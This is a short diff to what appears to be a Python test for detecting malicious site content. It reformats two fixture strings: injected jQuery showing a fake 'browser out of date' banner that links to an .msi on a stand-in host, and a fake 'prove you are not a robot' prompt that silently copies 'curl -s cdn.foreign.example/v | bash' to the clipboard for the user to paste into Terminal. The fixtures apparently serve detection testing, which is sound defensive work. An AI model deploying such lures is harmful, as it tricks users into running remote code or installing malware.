@@ -94,10 +94,11 @@ def test_installers_updates_of_the_site_and_commands_to_copy_are_none(code):
 
 JQUERY = (
     "$(function(){$('body').prepend('<div><h1>Your browser is out of date</h1>"
-    "<a href=\"https://files.foreign.example/update.msi\">Update</a></div>')})"
+    '<a href="https://files.foreign.example/update.msi">Update</a></div>\')})'
 )
 PASTED = (
-    "box.innerHTML='<p>Prove you are not a robot</p><ol><li>Open the Terminal</li><li>Press <b>Cmd</b> + <b>V</b></li></ol>';"
+    "box.innerHTML='<p>Prove you are not a robot</p><ol><li>Open the Terminal</li>"
+    "<li>Press <b>Cmd</b> + <b>V</b></li></ol>';"
     "navigator.clipboard.writeText('curl -s cdn.foreign.example/v | bash')"
 )
 
